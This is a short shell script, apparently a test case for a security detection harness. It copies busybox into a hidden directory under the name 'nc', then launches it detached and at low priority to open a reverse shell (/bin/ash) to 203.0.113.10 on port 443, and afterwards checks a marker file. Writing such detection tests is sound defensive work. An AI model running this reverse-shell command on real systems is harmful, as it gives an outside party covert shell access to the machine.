#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.x && cp /bin/busybox /var/tmp/.x/nc
setsid ionice -c 3 taskset 1 timeout 20 /var/tmp/.x/nc 203.0.113.10 443 -e /bin/ash || true
test -e /tmp/reached
took_place
